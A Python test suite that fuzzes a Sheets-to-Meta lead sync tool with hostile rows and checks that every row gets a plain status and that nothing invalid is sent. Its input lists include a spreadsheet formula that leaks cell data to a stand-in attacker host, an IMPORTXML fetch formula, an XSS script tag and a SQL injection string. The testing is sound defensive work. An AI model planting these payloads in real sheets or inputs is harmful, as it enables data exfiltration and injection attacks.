"""A sheet of everything sales people paste: 10,000 generated rows of formulas as text, 50,000
character strings, emoji, NUL and control characters, numbers where text belongs, dates in eight
formats and in none, rows shorter and longer than the header; and sheets with duplicate or
missing headers. No crash, a plain-words status on every row, and nothing reaches the fake Meta
that Meta would refuse (issue 7 "Deliver" 3)."""

from __future__ import annotations

import random
from collections.abc import Callable
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from sheet_bridge.sheets.client import SheetsClient
from sheet_bridge.sync.run import SyncError
from tests.conftest import WORLD_HEADER, WORLD_TZ, World

MakeWorld = Callable[..., World]
ROWS = 10_000
LONG = 50_000
# What a row's CAPI Status may begin with: the words render_row writes.
STATUS_WORDS = (
    "Sent:",
    "Failed:",
    "Expired:",
    "Baseline:",
    "Invalid:",
    "Skipped:",
    "No change:",
    "Would send:",
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd",
    '=IMPORTXML(CONCAT("http://x/",B2),"//a")',
]
JUNK = [
    "🔥🔥 hot lead 📞",
    "\x00",
    "a\x00b",
    "\x07\x1b[31mred\x1b[0m",
    "\u200b\u200e",
    "   ",
    "\t\n",
    "null",
    "None",
    "#REF!",
    "#N/A",
    "Ω≈ç√∫",
    "ÅÍÎÏ˝ÓÔ",
    "'",
    '"',
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE events;--",
]
NUMBERS: list[object] = [0, -1, 12345, 1.5e20, 3.14159, 1e-9, True, False, 2**63, 9007199254740993]
STATUSES: list[object] = ["New", "MQL", "SQL", "Opportunity", "Customer", "Won", "Disqualified"]
STATUSES += ["On hold", " new ", "CUSTOMER", "Lost", "", "?", 5, True, "New\x00", "MQL 🔥"]


def date_cells(at: datetime) -> list[object]:
    """The same moment in eight formats a sheet may hold, and the Sheets serial number."""
    serial = (at.replace(tzinfo=None) - datetime(1899, 12, 30)).total_seconds() / 86400
    return [
        at.isoformat(timespec="seconds"),
        at.strftime("%Y-%m-%d %H:%M"),
        at.strftime("%d/%m/%Y %H:%M"),
        at.strftime("%d/%m/%Y"),
        at.strftime("%Y/%m/%d %H:%M:%S"),
        at.strftime("%d.%m.%Y %H:%M"),
        at.strftime("%d-%m-%Y"),
        at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        serial,
    ]


# The hostile rows type their text dates day first (24/11/2026), as an Indian sheet does: the
# sheet's locale says how Sheets and the bridge read them (docs/identity-and-dates.md).
HOSTILE_LOCALE = "en_IN"
NOT_DATES: list[object] = ["yesterday", "32/13/2026", "2026-02-30", "soon", "-", 1e12, -5, "⏰"]


def hostile_cell(rng: random.Random, column: str, i: int, now: datetime) -> object:
    roll = rng.random()
    if roll < 0.02:
        return rng.choice(FORMULAS)
    if roll < 0.04:
        return rng.choice(JUNK)
    if roll < 0.05:
        return rng.choice(NUMBERS)
    if roll < 0.06:
        return ""
    local = now.astimezone(ZoneInfo(WORLD_TZ))
    if column == "Created At":
        if rng.random() < 0.1:
            return rng.choice(NOT_DATES)
        return rng.choice(date_cells(local - timedelta(hours=rng.uniform(30, 60))))
    if column == "Status Changed At":
        if rng.random() < 0.1:
            return rng.choice(NOT_DATES)
        hours = rng.choice([rng.uniform(1, 29), rng.uniform(24 * 8, 24 * 12)])  # fresh or stale
        return rng.choice(date_cells(local - timedelta(hours=hours)))
    if column == "Email":
        return rng.choice(
            [
                f"lead{i}@example.com",
                f" LEAD{i}@Example.COM ",
                f"mailto:lead{i}@example.com",
                "not-an-email",
                f"lead{i}@",
                f"lead{i}@example.com\x00",
                f"léad{i}@exämple.com",
            ]
        )
    if column == "Phone":
        return rng.choice(
            [
                "+91 98765 43210",
                "098765 43210",
                "(650) 555-1212",
                919876543210,
                "12",
                "☎️",
                "+1 650 555 1212 ext 5",
                "+91-98765-43210",
                9876543210.0,
                "00 44 20 7946 0958",
            ]
        )
    if column == "Leadgen ID":
        return rng.choice(
            [
                str(10**15 + i),
                str(10**16 + i),
                1234567890123456,
                "12345",
                "1.23457E+15",
                f" {10**15 + i} ",
                10**15 + i,
                "abc",
            ]
        )
    if column == "Lead Status":
        return rng.choice(STATUSES)
    if column == "Deal Value":
        return rng.choice(["", 5000, "₹ 40,000", "-10", "lots", 1e308, "NaN", float("inf")])
    if column == "First Name":
        return rng.choice(["Asha", "Ravi 🔥", "  ", "O'Brien-Smith", "李", 42, "Dr. Ünal"])
    return rng.choice(["", "", f"ev-{i}", "x" * 300])  # Event ID


def hostile_rows(now: datetime, n: int = ROWS, seed: int = 20261126) -> list[list[object]]:
    rng = random.Random(seed)
    rows: list[list[object]] = []
    for i in range(n):
        row = [hostile_cell(rng, column, i, now) for column in WORLD_HEADER]
        if i % 400 == 7:  # a few 50,000-character cells, in every column over the sheet
            row[(i // 400) % len(row)] = ("long " * LONG)[:LONG]
        shape = rng.random()
        if shape < 0.1:
            row = row[: rng.randrange(0, len(row))]  # shorter than the header
        elif shape < 0.15:
            row = row + [rng.choice(FORMULAS + JUNK) for _ in range(rng.randrange(1, 8))]
        elif shape < 0.17:
            row = [""] * len(row)  # a blank row in the middle
        rows.append(row)
    return rows


def test_hostile_sheet_gets_a_plain_words_status_on_every_row_and_meta_refuses_nothing(
    make_world: MakeWorld, world_now: datetime
) -> None:
    rows = hostile_rows(world_now)
    world = make_world(rows, locale=HOSTILE_LOCALE, meta={"batch_size": 1000})
    result = world.bridge().sync()

    sheet = world.rows()
    header = sheet[0]
    assert header[: len(WORLD_HEADER)] == WORLD_HEADER
    status_col = header.index("CAPI Status")
    nonblank = [i for i, row in enumerate(rows) if any(c not in ("", None) for c in row[:9])]
    assert len(result.rows) == len(nonblank)
    for i in nonblank:
        written = sheet[i + 1]
        status = written[status_col] if status_col < len(written) else ""
        assert isinstance(status, str) and status.startswith(STATUS_WORDS), (i, status[:200])
        assert status.isprintable(), (i, status[:200])  # no NUL or control character
        assert len(status) <= 2_000, (i, len(status))  # never an echoed 50,000-character cell
        assert "Traceback" not in status and "Error(" not in status

    stats = world.meta_stats()
    assert stats["events"] > 0 and result.counts["sent"] > 0
    assert stats["rejections"] == 0, "an event the fake (Meta's rules) refused was sent"
    assert result.counts["failed"] == 0
    # Every event that went is one the sheet says was sent, once.
    events = world.meta_events()
    ids = [e["event_id"] for e in events]
    assert len(ids) == len(set(ids))


def test_second_pass_over_the_hostile_sheet_sends_nothing_and_writes_nothing(
    make_world: MakeWorld, world_now: datetime
) -> None:
    world = make_world(hostile_rows(world_now, n=2_000, seed=7), locale=HOSTILE_LOCALE)
    world.bridge().sync()
    sent = world.meta_stats()["events"]
    again = world.bridge().sync()
    assert world.meta_stats()["events"] == sent
    assert again.cells_written == 0


@pytest.mark.parametrize(
    ("header", "words"),
    [
        (
            [h if h != "Phone" else "Email" for h in WORLD_HEADER],
            ["Email", "both headed", "rename one"],
        ),
        (
            [h if h != "Lead Status" else "Status" for h in WORLD_HEADER],
            ["Lead Status", "Status"],
        ),
        ([], ["Lead Status"]),
    ],
    ids=["duplicate-header", "missing-header", "no-header-at-all"],
)
def test_bad_header_stops_the_pass_saying_which_header_and_nothing_is_sent(
    make_world: MakeWorld, world_now: datetime, header: list[str], words: list[str]
) -> None:
    rows = hostile_rows(world_now, n=50)
    world = make_world(rows, locale=HOSTILE_LOCALE)
    cells = header or [""] * len(WORLD_HEADER)
    SheetsClient(world.config.sheets).write_cells([(1, i, h) for i, h in enumerate(cells)])
    before = world.rows()
    with pytest.raises(SyncError) as caught:
        world.bridge().sync()
    message = str(caught.value)
    for word in words:
        assert word.lower() in message.lower(), message
    assert len(message) < 1_000
    assert world.meta_stats()["requests"] == 0
    assert world.rows() == before
